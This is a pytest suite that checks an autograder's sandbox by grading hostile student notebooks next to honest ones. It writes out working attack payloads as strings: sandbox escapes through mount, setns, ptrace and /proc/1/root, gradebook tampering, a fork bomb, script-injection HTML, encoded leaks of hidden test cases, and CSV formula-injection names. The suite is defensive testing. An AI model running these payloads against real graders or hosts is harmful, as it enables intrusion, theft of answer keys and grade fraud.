"""Hostile and malformed submissions graded in one batch (``--jobs 2``) beside honest victims.

Everything is verified from outside the sandbox: after the batch, sentinel files in every place a
submission might reach (repository, specs, reference cache, asset cache, interpreter library,
virtual environment, the grader's home, the shared temporary folders, a neighbour's files) are
unchanged, no process of the batch is left, a loopback listener got no connection, every victim
kept full marks, every attacker got exactly what its honest code deserves, the CSV and the
gradebook agree, and the autograded notebooks and feedback hold no hidden material and no
live HTML. One ``grade_assignment`` run serves every assertion.
"""
import contextlib
import csv
import hashlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

from llmprep.grading import engine, isolate
from llmprep.grading.batch import grade_assignment
from llmprep.grading.engine import Limits, load_spec
from llmprep.grading.record import gradebook_url
from notebooks import grade_cell

# The batch grades ch15 (pure-Python answers: 0.3 s of CPU a notebook; ch13, which imports torch, took five times that)
CH = "ch15_agents"
NB = "ch15_exercises.ipynb"
ANSWER = "ch15_reliability"  # the answer cell the attacks are appended to: reliability, 2 points
FULL = 14.0
WRONG_ANSWER = '\ndef reliability(outcomes, k):\n    return {"pass_at_k": 0.0, "pass_hat_k": 0.0}\n'
HONEST_WRONG = 12.0  # a wrong reliability loses its 2 points
MARKER = "llmprep-hostile-marker"
LIMITS = Limits(wall=300, cell_timeout=6, case_timeout=6)  # CPU seconds: ch15's cells need < 0.5 (time abuse burns 6)


def _correct_answer() -> str:
    """A correct reliability that is not the solution's (the spec's alternative), for an attacker whose
    escape worked (it then keeps a correct answer: detected here and by the sentinels outside)."""
    import textwrap

    return textwrap.dedent(next(iter(load_spec(CH).exercise("ch15_reliability_test").alternatives.values())))


pytestmark = pytest.mark.skipif(not engine.isolation().strong,
                                reason=f"no sandbox on this machine: {engine.isolation().why}")




def _append(grade_id, code, wrong=True):
    def edit(nb, ctx):
        grade_cell(nb, grade_id).source += "\n" + (WRONG_ANSWER if wrong else "") + code.format(**ctx)
    return edit


def _new_cell(code):
    def edit(nb, ctx):
        nb.cells.append(nbformat.v4.new_code_cell(code.format(**ctx)))
    return edit


# ---------------------------------------------------------------------- attacks (code run by students)

# Try to leave the jail: unmount, remount, mount over, pivot through /proc, join the host's
# namespaces, ptrace the parent, create a user namespace, make device nodes, then write to every
# host location (directly and through /proc/1/root).
ESCAPE = r'''
import ctypes, ctypes.util, os, glob
libc = ctypes.CDLL(None, use_errno=True)
for target in [b"/", b"/usr", b"/proc", b"/tmp", b"/sandbox/work", {repo_b!r}]:
    libc.umount2(target, 2)
libc.mount(b"none", b"/", None, 0x20 | 0x4000, None)  # MS_REMOUNT | MS_BIND -> rw
libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None)
libc.unshare(0x10000000)  # CLONE_NEWUSER
for ns in glob.glob("/proc/1/ns/*") + glob.glob("/proc/*/ns/mnt"):
    try:
        fd = os.open(ns, os.O_RDONLY)
        libc.setns(fd, 0)
    except OSError:
        pass
libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH
os.system("umount -l / 2>/dev/null; mount -o remount,rw / 2>/dev/null")
import stat
for dev, kind in [("disk", stat.S_IFBLK | 0o666), ("mem", stat.S_IFCHR | 0o666)]:
    try:  # a block device of the host disk (8, 0) or /dev/mem (1, 1), if it could be made
        os.mknod(dev, kind, os.makedev(8, 0) if dev == "disk" else os.makedev(1, 1))
        open(dev, "r+b").write(b"x")
    except OSError:
        pass
secret = None
for root in ["", "/proc/1/root", "/proc/self/root", "/proc/2/root"] + [f"/proc/{{p}}/root" for p in range(3, 40)]:
    try:
        secret = open(root + {solution!r}).read()
        break
    except OSError:
        pass
if secret:
    import json as _j
    src = [''.join(c['source']) for c in _j.loads(secret)['cells'] if 'def {fn}(' in ''.join(c['source'])][0]
    exec(src.replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''))
for path in {targets!r}:
    for root in ["", "/proc/1/root"]:
        try:
            os.makedirs(os.path.dirname(root + path), exist_ok=True)
            with open(root + path, "a") as fh:
                fh.write("\nimport os; os.environ['PWNED'] = '1'\n")
        except OSError:
            pass
        try:
            os.unlink(root + path)
        except OSError:
            pass
import sqlite3
try:
    con = sqlite3.connect({gradebook!r})
    con.execute("UPDATE grade SET auto_score = 99")
    con.commit()
except Exception:
    pass
'''

# Neighbours: find other sandboxes of the same batch, hard-link or overwrite their files, and
# fill every writable place.
NEIGHBOURS = r'''
import os
for base in ["/tmp", "/var/tmp", "/sandbox", "/", {tmp_parent!r}]:
    try:
        for name in os.listdir(base):
            p = os.path.join(base, name)
            try:
                os.link(p, "stolen-" + name)
            except OSError:
                pass
            try:
                with open(p, "w") as fh:
                    fh.write("x")
            except OSError:
                pass
    except OSError:
        pass
for folder in ["/tmp", "/sandbox/work", {tmp_parent!r}]:
    try:
        with open(os.path.join(folder, "fill"), "wb") as fh:
            for _ in range(2048):
                fh.write(b"\0" * 2**20)
    except OSError:
        pass
'''

# Processes: a fork bomb (capped), a double-forked daemon that writes later, and a connection
# to a listener on the host's loopback.
PROCESSES = r'''
import os, time, socket
kids = []
for _ in range(400):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    kids.append(pid)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import sys
        sys.argv = ["{marker}"]
        time.sleep(4)
        for path in {targets!r}:
            try:
                with open(path, "a") as fh:
                    fh.write("late")
            except OSError:
                pass
        os._exit(0)
    os._exit(0)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hello")
except OSError:
    pass
'''

# Results channel: forged, malformed and oversized frames on every pipe, then exit so that the
# forgery is the last thing the grader reads.
FORGE = r'''
import os, stat, io, json, zipfile
def frame(kind, payload):
    return kind.encode() + b" " + str(len(payload)).encode() + b"\n" + payload
deep = ("[" * 5000 + "]" * 5000).encode()
zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w") as zf:
    zf.writestr("a|submitted|0|x.npy", b"\x93NUMPY\x01\x00v\x00{{'descr': '<f8', 'fortran_order': False, "
                b"'shape': (400000000,), }}" + b" " * 50 + b"\n" + b"\0" * 64)
blobs = [frame("summary", b"[1, 2, 3]"), frame("summary", deep), frame("progress", deep),
         frame("progress", json.dumps({{"phase": ["x"], "index": "0"}}).encode()),
         frame("npz", zbuf.getvalue()),
         frame("summary", json.dumps({{"cells": [{{"index": 999, "status": "ok"}}], "probes": []}}).encode())]
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for b in blobs:
                os.write(fd, b)
    except OSError:
        pass
os._exit(0)
'''

# Feedback: live HTML in exception text, and the job (hidden cases, probe source) found in memory.
INJECT = r'''
import gc
job = next((o for o in gc.get_objects() if isinstance(o, dict) and "exercises" in o and "cells" in o), None)
if job is not None:
    leak = json_text = str(job["exercises"][0]["cases"]) + job["exercises"][0]["probe"]
    raise RuntimeError("<script>alert(1)</script><img src=x onerror=alert(2)> " + leak[:200])
raise RuntimeError("<script>alert(1)</script><img src=x onerror=alert(2)>")
'''

TIME_ABUSE = r'''
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGPROF, signal.SIG_IGN)  # both of the sandbox's timers: only the watchdog outside is left
signal.setitimer = lambda *a, **k: None
while True:
    pass
'''

# Host sysctls (a root-mapped sandbox could write them), the masked /proc files and the syscalls the seccomp
# filter denies. Each write puts back the value it read: harmless if a protection failed, and then detected
# here (the attacker keeps its correct answer) and outside (the sentinels read the host's sysctls).
KERNEL = r"""
import os, ctypes, errno, platform
escaped = []
for p in ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/sysrq",
          "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/modprobe"]:
    try:
        value = open(p).read()
        with open(p, "w") as fh:
            fh.write(value)
        escaped.append(p)
    except OSError:
        pass
try:
    open("/proc/sysrq-trigger", "w").close()  # opened only, never written
    escaped.append("sysrq-trigger")
except OSError:
    pass
for p in ["/proc/keys", "/proc/kcore", "/proc/timer_list"]:
    try:
        if open(p, "rb").read(64):
            escaped.append(p)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
numbers = {{"x86_64": {{"perf_event_open": 298, "io_uring_setup": 425, "userfaultfd": 323, "keyctl": 250,
                        "ptrace": 101}},
           "aarch64": {{"perf_event_open": 241, "io_uring_setup": 425, "userfaultfd": 282, "keyctl": 219,
                         "ptrace": 117}}}}.get(platform.machine(), {{}})
args = {{"perf_event_open": (0, 0, -1, -1, 0), "io_uring_setup": (1, 0), "userfaultfd": (1,), "keyctl": (9999,),
        "ptrace": (0,)}}  # allowed, each would fail with another error than EPERM (or succeed)
for name, number in numbers.items():
    rc = libc.syscall(number, *args[name])
    if rc >= 0 or ctypes.get_errno() != errno.EPERM:
        escaped.append(name)
if escaped:
    exec({correct!r})
"""

# The hidden job, found in memory and smuggled out encoded, a piece per erroring cell.
EXFIL_SETUP = r"""
import gc, json, base64, codecs
from urllib.parse import quote
_job = next((o for o in gc.get_objects() if isinstance(o, dict) and "exercises" in o and "cells" in o), None)
_text = json.dumps(_job["exercises"]) if _job else "no job found"
_raw = _text.encode()
LEAKS = [base64.b64encode(_raw).decode(), _raw.hex(), codecs.encode(_text, "rot13"), _text[::-1],
         base64.b32encode(_raw).decode(), quote(_text), _text]
"""


def _exfiltrate(nb, ctx):
    nb.cells.append(nbformat.v4.new_code_cell(EXFIL_SETUP))
    for k in range(7):
        for i in range(2):
            nb.cells.append(nbformat.v4.new_code_cell(f"raise ValueError(LEAKS[{k}][{i * 150 + 300}:{i * 150 + 450}])"))


# Forged progress frames going back and forth between two cells, alarms ignored, while busy: the
# watchdog must still end the cell after one allowance.
SPOOF = r"""
import os, stat, json, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGPROF, signal.SIG_IGN)
fds = []
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            fds.append(fd)
    except OSError:
        pass
i = 0
while True:
    where = json.dumps({{"phase": "cell", "index": {cells}[i % 2]}}).encode()
    for fd in fds:
        try:
            os.write(fd, b"progress " + str(len(where)).encode() + b"\n" + where)
        except OSError:
            pass
    i += 1
    t = time.time()
    while time.time() - t < 0.5:
        pass
"""


def _spoof(nb, ctx):
    code_cells = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    nb.cells.append(nbformat.v4.new_code_cell(SPOOF.format(cells=code_cells[:2])))


def _other_chapter(nb, ctx):
    other = nbformat.read(str(ctx["other_chapter"]), as_version=4)
    nb.cells[:] = other.cells


def _use_helper(nb, ctx):
    cell = grade_cell(nb, ANSWER)
    cell.source = "from my_helpers import reliability\n"


def _magics(nb, ctx):
    cell = grade_cell(nb, ANSWER)
    cell.source = "%matplotlib inline\n%config InlineBackend.figure_format = 'png'\n" + cell.source
    cell = grade_cell(nb, "ch15_parse")
    cell.source = "%%time\n" + cell.source


def _syntax_error(nb, ctx):
    grade_cell(nb, ANSWER).source += "\ndef broken(:\n    pass\n"


# student -> (edit of the solution notebook, expected score, file name, extra files)
STUDENTS = {
    "victim_a": (None, FULL, None, None),
    "victim_b": (None, FULL, None, None),
    "victim_c": (None, FULL, None, None),
    "escape": (_append(ANSWER, ESCAPE), HONEST_WRONG, None, None),
    "neighbours": (_append(ANSWER, NEIGHBOURS), HONEST_WRONG, None, None),
    "processes": (_append(ANSWER, PROCESSES), HONEST_WRONG, None, None),
    "forged_results": (_new_cell(FORGE), FULL, None, None),
    "feedback_injection": (_new_cell(INJECT), FULL, None, None),
    "time_abuse": (_new_cell(TIME_ABUSE), FULL, None, None),
    "symlinked_files": (None, FULL, None, "links"),
    "symlinked_notebook": ("symlink", None, None, None),
    "patches_testing": (_append(ANSWER, "import numpy, torch\nnumpy.allclose = lambda *a, **k: True\n"
                                "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                                "torch.testing.assert_close = lambda *a, **k: None\n"), HONEST_WRONG, None, None),
    "exception_handler": (_append(ANSWER,
                                  "ip = get_ipython()\nip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                                  "ip.events.register('post_run_cell', lambda *a, **k: None)\n"), HONEST_WRONG, None,
                          None),
    "input_transformer": (_append(ANSWER, "get_ipython().input_transformers_post.append("
                                  "lambda lines: [l.replace('assert ', 'pass  # ') for l in lines])\n"),
                          HONEST_WRONG, None, None),
    "stderr_warnings": (_append("ch15_mask", "import sys, warnings\nprint('a warning', file=sys.stderr)\n"
                                "warnings.warn('deprecated thing')\n", wrong=False), FULL, None, None),
    "exits_after_answers": (_new_cell("import os\nos._exit(0)"), FULL, None, None),
    "renamed_notebook": (None, FULL, "Copy of ch15_exercises (1).ipynb", None),
    "huge_output": (_append(ANSWER, "print('x' * (50 * 2**20))\n", wrong=False), FULL, None, None),
    "memory_hog": (_append("ch15_template", "try:\n    hog = bytearray(40 * 2**30)\nexcept MemoryError:\n"
                           "    pass\nhog = bytearray(40 * 2**30)\n", wrong=False), FULL, None, None),
    "helper_module": (_use_helper, FULL, None, "helper"),
    "magics": (_magics, FULL, None, None),
    "syntax_error": (_syntax_error, FULL - 2, None, None),  # reliability never defined: its 2 points
    "invalid_json": ("invalid", None, None, None),
    "nbformat_v3": ("v3", FULL, None, None),
    "retyped_cell": ("retype", HONEST_WRONG, None, None),  # reliability's cell became markdown
}


def _changed_ids(nb, ctx):
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"renamed-{i}"


def _duplicate_test_cell(nb, ctx):
    nb.cells.append(nbformat.from_dict(json.loads(json.dumps(grade_cell(nb, "ch15_mask_test")))))


def _unknown_schema(nb, ctx):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["schema_version"] = 99


STUDENTS["changed_cell_ids"] = (_changed_ids, FULL, None, None)
STUDENTS["kernel_surface"] = (_append(ANSWER, KERNEL), HONEST_WRONG, None, None)
STUDENTS["exfiltration"] = (_exfiltrate, FULL, None, None)
STUDENTS["watchdog_spoof"] = (_spoof, FULL, None, None)
STUDENTS["other_chapter"] = (_other_chapter, None, None, None)  # ch02's solution handed in for ch15
# Folder names are hostile text: refused, and neutralised wherever they are shown.
HOSTILE_NAMES = ["=HYPERLINK(\"example.invalid\",\"appeal\")", "line\nbreak", "-rm", "@SUM(A1)",
                 "tab\tname", "bell\x07"]
for _name in HOSTILE_NAMES:
    STUDENTS[_name] = (None, None, None, None)
STUDENTS["duplicate_test_cell"] = (_duplicate_test_cell, FULL, None, None)
STUDENTS["unknown_schema"] = (_unknown_schema, FULL, None, None)


# ---------------------------------------------------------------------- sentinels (outside the sandbox)

def _digest(path: Path) -> str:
    if not path.exists():
        return "absent"
    if path.is_dir():
        return hashlib.sha256("\n".join(sorted(
            f"{p.relative_to(path)}:{p.stat().st_size}:{_digest(p) if p.stat().st_size < 2**20 else ''}"
            for p in path.rglob("*") if p.is_file())).encode()).hexdigest()
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def batch(root, tmp_path_factory):
    course = tmp_path_factory.mktemp("hostile") / "course_root"
    shutil.copytree(root / "solutions" / CH, course / "solutions" / CH)
    nb_name = load_spec(CH).notebook
    engine.reference_run(CH)  # the reference cache exists before any attacker runs
    site = Path(next(p for p in sys.path if p.endswith("site-packages")))
    stdlib = Path(os.__file__).parent
    shared_tmp = Path(tempfile.mkdtemp(prefix="llmprep-sentinel-"))
    (shared_tmp / "neighbour.txt").write_text("a file of someone else")
    home_sentinel = Path.home() / f".llmprep-hostile-sentinel-{os.getpid()}"  # (several suites may run at once)
    home_sentinel.write_text("home")
    var_tmp = Path("/var/tmp") / f"llmprep-sentinel-{os.getpid()}"
    var_tmp.write_text("var tmp")
    from llmprep.assets import cache_root

    sentinels = {
        "spec": root / "autograder" / f"{CH}.py",
        "solution": root / "solutions" / CH / nb_name,
        "sandbox code": root / "llmprep" / "grading" / "sandbox.py",
        "git HEAD": root / ".git" / "HEAD",
        "asset cache": cache_root() / "assets" / "gpt2_tokenizer",
        "interpreter library": stdlib / "os.py",
        "interpreter sitecustomize": stdlib / "sitecustomize.py",
        "venv sitecustomize": site / "sitecustomize.py",
        "venv usercustomize": site / "usercustomize.py",
        "home": home_sentinel,
        "shared tmp": shared_tmp,
        "var tmp": var_tmp,
        "course copy of the solutions": course / "solutions" / CH / nb_name,
    }
    for sysctl in ("kernel/core_pattern", "vm/panic_on_oom", "kernel/sysrq", "vm/overcommit_memory", "kernel/modprobe"):
        sentinels[f"host sysctl {sysctl}"] = Path("/proc/sys") / sysctl
    cache = root / "build" / "grading-cache"  # (other chapters' references may be added meanwhile, by us)
    sentinels.update({f"reference cache {p.name}": p for p in cache.glob(f"{CH}-*")})
    before = {k: _digest(v) for k, v in sentinels.items()}
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    ctx = {"solution": str(root / "solutions" / CH / nb_name), "gradebook": str(course / "gradebook.db"),
           "repo_b": str(root).encode(), "targets": [str(p) for p in sentinels.values()]
           + [str(p / "x") for p in (cache, shared_tmp)],
           "tmp_parent": tempfile.gettempdir(), "marker": MARKER, "port": listener.getsockname()[1],
           "fn": "reliability", "correct": _correct_answer(),
           "other_chapter": root / "solutions" / "ch02_imbalance" / load_spec("ch02_imbalance").notebook}
    for student, (edit, _, name, extra) in STUDENTS.items():
        folder = course / "submitted" / student / CH
        folder.mkdir(parents=True)
        target = folder / (name or nb_name)
        nb = nbformat.read(str(root / "solutions" / CH / nb_name), as_version=4)
        if edit == "invalid":
            target.write_text('{"cells": [')
            continue
        if edit == "symlink":
            target.symlink_to(root / "solutions" / CH / nb_name)
            continue
        if edit == "v3":
            nbformat.write(nbformat.convert(nb, 3), str(target), version=3)
            continue
        if edit == "retype":
            grade_cell(nb, ANSWER).cell_type = "markdown"
            del grade_cell(nb, ANSWER)["outputs"], grade_cell(nb, ANSWER)["execution_count"]
        elif edit is not None:
            edit(nb, ctx)
        nbformat.write(nb, str(target))
        if extra == "helper":
            (folder / "my_helpers.py").write_text("import math\n\nimport numpy as np\n\n" + ctx["correct"])
        if extra == "links":  # links to private files and a FIFO: never followed, never waited on
            (folder / "solution_link.ipynb").symlink_to(root / "solutions" / CH / nb_name)
            (folder / "spec_link.py").symlink_to(root / "autograder" / f"{CH}.py")
            (folder / "repo_link").symlink_to(root)
            os.mkfifo(folder / "data.fifo")
    start = time.perf_counter()
    created_before = len(isolate.CREATED)
    terminal = io.StringIO()
    with contextlib.redirect_stdout(terminal), contextlib.redirect_stderr(terminal):
        code = grade_assignment(CH, root=course, jobs=2, limits=LIMITS)
    seconds = time.perf_counter() - start
    groups = isolate.CREATED[created_before:]
    time.sleep(6)  # give any escaped daemon the time to do its damage
    connections = 0
    try:
        while True:
            listener.accept()
            connections += 1
    except BlockingIOError:
        pass
    listener.close()
    after = {k: _digest(v) for k, v in sentinels.items()}
    leftovers = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True).stdout.split()
    from nbgrader.api import Gradebook

    scores = {}
    with Gradebook(gradebook_url(course)) as gb:
        for student in STUDENTS:
            try:
                scores[student] = gb.find_submission(CH, student).score
            except Exception:  # noqa: BLE001 - not in the gradebook
                scores[student] = None
    from llmprep.grading.batch import csv_safe

    by_cell = {csv_safe(student): student for student in STUDENTS}  # the CSV shows names neutralised
    csv_rows = list(csv.DictReader(open(course / "build" / "grades" / f"{CH}.csv", newline="")))
    rows = {by_cell.get(r["student"], r["student"]): r for r in csv_rows}
    home_sentinel.unlink(missing_ok=True)
    var_tmp.unlink(missing_ok=True)
    shutil.rmtree(shared_tmp)
    return {"code": code, "scores": scores, "course": course, "seconds": seconds, "before": before,
            "after": after, "connections": connections, "leftovers": leftovers, "rows": rows, "csv_rows": csv_rows,
            "terminal": terminal.getvalue(), "groups": groups, "nb_name": nb_name, "root": root}


def test_no_sentinel_outside_the_sandbox_changed(batch):
    changed = [k for k in batch["before"] if batch["before"][k] != batch["after"][k]]
    assert not changed, changed


def test_no_process_survives_and_no_connection_left_the_sandbox(batch):
    assert batch["leftovers"] == []
    assert batch["connections"] == 0


@pytest.mark.parametrize("student", sorted(STUDENTS), ids=ascii)
def test_each_student_gets_what_their_code_deserves(batch, student):
    assert batch["scores"][student] == STUDENTS[student][1], (student, batch["rows"].get(student))


def test_csv_and_gradebook_agree(batch):
    for student, row in batch["rows"].items():
        score = batch["scores"][student]
        if row["status"].startswith("graded"):
            assert float(row["score"]) == score, student
        else:
            assert score is None and row["score"] == "", student
    assert set(batch["rows"]) == set(STUDENTS)


def test_the_batch_finishes_within_its_budget_and_reports_failures(batch):
    assert batch["code"] == 1  # the invalid file and the symlinked notebook could not be graded
    rows = batch["rows"]
    assert "not a readable notebook" in rows["invalid_json"]["status"]
    assert rows["symlinked_notebook"]["status"].startswith("missing")
    # at most every student's full budget spread over two jobs; in practice far less
    assert batch["seconds"] < len(STUDENTS) * LIMITS.wall / 2


def test_time_abuse_costs_one_budget_and_is_reported(batch):
    autograded = batch["course"] / "autograded" / "time_abuse" / CH / NB
    text = autograded.read_text()
    assert "ignored the alarm" in text


def test_syntax_errors_name_the_cell_as_the_learner_sees_it(batch):
    text = (batch["course"] / "autograded" / "syntax_error" / CH / NB).read_text()
    assert "your answer for ch15_reliability" in text and "SyntaxError" in text
    assert "KeyError" not in text


def test_autograded_notebooks_and_feedback_show_verdicts_not_hidden_material(batch):
    from llmprep.nbgrader_wiring import nbgrader

    nbgrader(["generate_feedback", CH, "--force"], batch["course"])
    spec = load_spec(CH)
    files = list((batch["course"] / "autograded").rglob("*.ipynb")) + \
        list((batch["course"] / "feedback").rglob("*.html"))
    assert len(files) >= 2 * (len(STUDENTS) - 3 - len(HOSTILE_NAMES))  # not graded: invalid, symlinked, other chapter, names
    from llmprep.book import mathjax_dir

    mathjax = (mathjax_dir() / "tex-svg.js").read_text(encoding="utf-8")
    public = (batch["root"] / "course" / CH / NB).read_text()  # a hidden case may equal a released example
    def format_keys(node):  # the keys the notebook format itself uses ("name", "text" of a stream output)
        if isinstance(node, dict):
            return set(node).union(*map(format_keys, node.values()))
        return set().union(*map(format_keys, node)) if isinstance(node, list) else set()

    for path in files:
        text = path.read_text().replace(mathjax, "")  # MathJax inlined in every feedback page: trusted, the same
        structural = format_keys(json.loads(text)) if path.suffix == ".ipynb" else set()
        assert len(text.encode()) < 2_000_000, path  # the 50 MB print is not copied into grading artifacts
        assert "llmprep grader:" in text
        assert "<script>alert" not in text and "<img src=x" not in text, path
        for ex in spec.exercises:
            assert ex.probe.__name__ not in text, path
            for case in ex.cases:
                for key, value in case.params.items():
                    if path.suffix == ".ipynb" and key not in structural:  # (HTML quotes words: class="n")
                        assert f'"{key}"' not in text and f"'{key}'" not in text, (path, key)
                    if len(json.dumps(value)) >= 12 and repr(value)[:40] not in public:
                        assert json.dumps(value)[:40] not in text and repr(value)[:40] not in text, (path, key)
    injected = (batch["course"] / "autograded" / "feedback_injection" / CH / NB).read_text()
    assert "message withheld" in injected and "'params'" not in injected and "alert(" not in injected  # (repr)
    victim = (batch["course"] / "feedback" / "victim_a" / CH / NB.replace(".ipynb", ".html")).read_text()
    assert "llmprep grader: 2 / 2 points" in victim


def test_no_cgroup_is_left_behind(batch):
    assert batch["groups"], "the batch made no per-run cgroup (none writable here?)" \
        if isolate.cgroup_support() else "no cgroup support"
    left = [str(g) for g in batch["groups"] if g.exists()]
    assert left == []


def test_another_chapters_notebook_is_refused_and_the_csv_agrees(batch):
    row = batch["rows"]["other_chapter"]
    assert "this is the ch02_imbalance notebook; expected ch15_agents" in row["status"], row
    assert row["score"] == "" and batch["scores"]["other_chapter"] is None


def test_hostile_student_names_are_refused_and_neutralised(batch):
    for name in HOSTILE_NAMES:
        assert batch["rows"][name]["status"].startswith("refused: the student folder name"), name
    for row in batch["csv_rows"]:  # formula-safe, one line each
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert value.isprintable(), row
    for line in batch["terminal"].splitlines():  # no raw control character reaches the terminal
        assert all(ch.isprintable() or ch in "\r\x1b" for ch in line), repr(line)
    assert "line\\nbreak" in batch["terminal"] and "bell\\x07" in batch["terminal"]


def test_the_job_does_not_leave_through_the_notes_in_any_encoding(batch):
    """Every long token of every autograded notebook, feedback page, CSV and terminal line is checked
    against the job (hidden cases and probe source) in each encoding the attacker used."""
    import base64
    import codecs
    import re
    from urllib.parse import quote

    from llmprep.nbgrader_wiring import nbgrader

    nbgrader(["generate_feedback", CH, "--force", "--student", "exfiltration"], batch["course"])
    spec = load_spec(CH)
    path = batch["course"] / "submitted" / "exfiltration" / CH / batch["nb_name"]
    text = json.dumps(engine.build_job(engine.read_notebook(path), list(spec.exercises))["exercises"])
    raw = text.encode()
    encoded = [base64.b64encode(raw).decode(), raw.hex(), codecs.encode(text, "rot13"), text[::-1],
               base64.b32encode(raw).decode(), quote(text)]
    outputs = [p.read_text() for p in (batch["course"] / "autograded" / "exfiltration").rglob("*.ipynb")]
    outputs += [p.read_text() for p in (batch["course"] / "feedback" / "exfiltration").rglob("*.html")]
    outputs += [batch["terminal"], json.dumps(batch["csv_rows"])]
    assert len(outputs) >= 4
    for out in outputs:
        for token in set(re.findall(r"[A-Za-z0-9+/=%_.\-]{12,}", out)):
            # (a word of the job that no encoding changes, e.g. an exercise name, is not a leak)
            assert token in text or not any(token in e for e in encoded), token
    notes = json.loads(outputs[0])["cells"][0]["source"]
    assert "Notes from the grader" in "".join(notes) and "more cells raised errors" in "".join(notes)
    assert batch["scores"]["exfiltration"] == FULL


def test_forged_progress_does_not_keep_a_cell_alive(batch):
    text = (batch["course"] / "autograded" / "watchdog_spoof" / CH / NB).read_text()
    assert "ignored the alarm" in text


def test_the_sandbox_runs_as_an_unprivileged_host_uid(root, tmp_path):
    """Read from the host: the uid of a process inside the sandbox is never 0 (as root: the dedicated uid)."""
    import threading

    from notebooks import edited_solution

    marker = "7.31415926"
    path = edited_solution(tmp_path, lambda nb: setattr(grade_cell(nb, "ch15_setup"), "source", grade_cell(
        nb, "ch15_setup").source + f"\nimport subprocess\nsubprocess.run(['sleep', '{marker}'])\n"), chapter=CH)
    result = {}
    thread = threading.Thread(target=lambda: result.update(r=engine.check_notebook(path, LIMITS)))
    thread.start()
    uids = None
    deadline = time.monotonic() + 120
    while uids is None and time.monotonic() < deadline and thread.is_alive():
        for pid in subprocess.run(["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True).stdout.split():
            try:
                status = Path(f"/proc/{pid}/status").read_text()
            except OSError:
                continue
            uids = [int(u) for u in next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1:]]
        time.sleep(0.2)
    thread.join()
    assert uids is not None, "the marker process was not seen"
    assert 0 not in uids, uids
    if os.geteuid() == 0:
        assert set(uids) == {isolate.sandbox_uid()}, uids
        assert f"host uid {isolate.sandbox_uid()}" in engine.isolation().describe
    assert result["r"].score == result["r"].max_score


HOG = r"""
import os, time
for _ in range(100):
    if os.fork() == 0:
        end = time.time() + 10
        while time.time() < end:
            pass
        os._exit(0)
"""


def test_a_cpu_hog_does_not_starve_the_honest_notebook_beside_it(root, tmp_path):
    """Two notebooks graded at once (as ``--jobs 2``): a hundred busy processes in one, an honest notebook in
    the other. Each run has its own CPU group with the same weight: the honest one keeps full marks, is never
    blamed for its neighbour, and slows down boundedly."""
    from concurrent.futures import ThreadPoolExecutor

    from notebooks import edited_solution

    if "cpu" not in isolate.cgroup_support():
        pytest.skip("no writable cpu cgroup on this machine")
    limits = Limits(wall=300, cell_timeout=60, case_timeout=30)
    honest = edited_solution(tmp_path, lambda nb: None, name="honest.ipynb", chapter=CH)
    hog = edited_solution(tmp_path, lambda nb: setattr(grade_cell(nb, "ch15_setup"), "source", grade_cell(
        nb, "ch15_setup").source + HOG), name="hog.ipynb", chapter=CH)
    start = time.perf_counter()
    alone = engine.check_notebook(honest, limits)
    alone_seconds = time.perf_counter() - start
    with ThreadPoolExecutor(2) as pool:
        hogging = pool.submit(engine.check_notebook, hog, limits)
        time.sleep(3)  # its busy processes are running (they outlive the honest run: ch15 grades in a second)
        start = time.perf_counter()
        beside = pool.submit(engine.check_notebook, honest, limits).result()
        beside_seconds = time.perf_counter() - start
        hogging.result()
    assert alone.score == alone.max_score
    assert beside.score == beside.max_score, (beside.cells, beside.notes)
    assert not any("time" in n for n in beside.notes), beside.notes
    assert beside_seconds < 3 * alone_seconds + 20, (alone_seconds, beside_seconds)


def test_grade_refuses_without_a_sandbox(root, tmp_path, monkeypatch, capsys):
    from llmprep.grading import batch as batch_module

    monkeypatch.setattr(batch_module, "isolation", lambda: engine.Isolation("limits", why="test: no bwrap"))
    (tmp_path / "submitted" / "s" / CH).mkdir(parents=True)
    assert grade_assignment(CH, root=tmp_path) == 2
    err = capsys.readouterr().err
    assert "no sandbox can start here" in err and "--unsandboxed" in err
